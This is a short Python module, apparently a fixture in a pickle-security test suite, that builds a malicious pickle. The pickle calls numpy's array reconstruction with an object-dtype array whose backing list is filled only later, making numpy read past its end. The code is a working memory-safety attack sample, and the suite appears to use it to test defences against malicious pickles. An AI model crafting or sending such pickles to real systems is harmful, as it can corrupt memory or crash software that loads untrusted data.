"""An object array is built from an empty list, which is filled only then: numpy reads past
its end."""

from __future__ import annotations

from malicious_samples.recipes import make_dtype
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    del canary
    p = Pickle().call(
        Name("numpy._core.multiarray", "_reconstruct"), Name("numpy", "ndarray"), (0,), b"b"
    )
    p.mark().save(1, (2,), make_dtype("O8", order="|")).newfalse().empty_list().memo(
        "#"
    ).tuple_().build()
    return p.recall("#").save(1).append().save(2).append().tuple2().finish()
